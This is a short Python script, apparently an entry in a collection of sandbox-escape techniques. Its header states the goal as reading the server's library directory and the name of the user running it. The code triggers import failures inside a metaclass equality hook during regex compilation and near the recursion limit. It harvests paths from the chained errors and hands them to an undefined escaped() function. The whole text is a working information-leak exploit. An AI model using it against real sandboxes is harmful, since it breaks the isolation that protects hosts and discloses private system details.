# technique: where the library is, in what an import says that fails inside of it: one that is begun in the middle of another, and one at the end of the stack
# source: own, Lib/importlib/_bootstrap_external.py, Lib/re/__init__.py
# goal: the name of a directory of the server's, with that of the user who runs it
# impact: read
import re
import sys

said = []


def note(error):
    while error is not None:
        said.extend([str(error), *error.args, getattr(error, 'path', None), getattr(error, 'filename', None)])
        error = error.__context__


class Meta(type):
    def __hash__(cls):
        return hash(str)

    def __eq__(cls, other):
        try:
            import statistics
        except ImportError as error:
            note(error)
        return False


class Text(str, metaclass=Meta):
    pass


PATTERN = r"""
    \A\s*                                  # optional whitespace at the start,
    (?P<sign>[-+]?)                        # an optional sign, then
    (?=\d|\.\d)                            # lookahead for digit or .digit
    (?P<num>\d*|\d+(_\d+)*)                # numerator (possibly empty)
    (?:                                    # followed by
       (?:\s*/\s*(?P<denom>\d+(_\d+)*))?   # an optional denominator
    |                                      # or
       (?:\.(?P<decimal>\d*|\d+(_\d+)*))?  # an optional fractional part
       (?:E(?P<exp>[-+]?\d+(_\d+)*))?      # and optional exponent
    )
    \s*\Z                                  # and optional whitespace to finish
"""


def deep(depth, function):
    return deep(depth - 1, function) if depth else function()


def html():
    import html.parser


for flags in (re.VERBOSE | re.IGNORECASE, (re.VERBOSE | re.IGNORECASE).value):
    try:
        re.compile(Text(PATTERN), flags)
    except TypeError:
        pass
import fractions

sys.setrecursionlimit(320)
for function in (html,):
    for depth in range(300, 288, -1):
        try:
            deep(depth, function)
            break
        except (RecursionError, ImportError) as error:
            note(error)
sys.setrecursionlimit(1000)
for text in said:
    # A guest is shown it as if it were at the root.
    if isinstance(text, str) and re.search(r'\w/lib/python|\.cache', text):
        escaped(text)
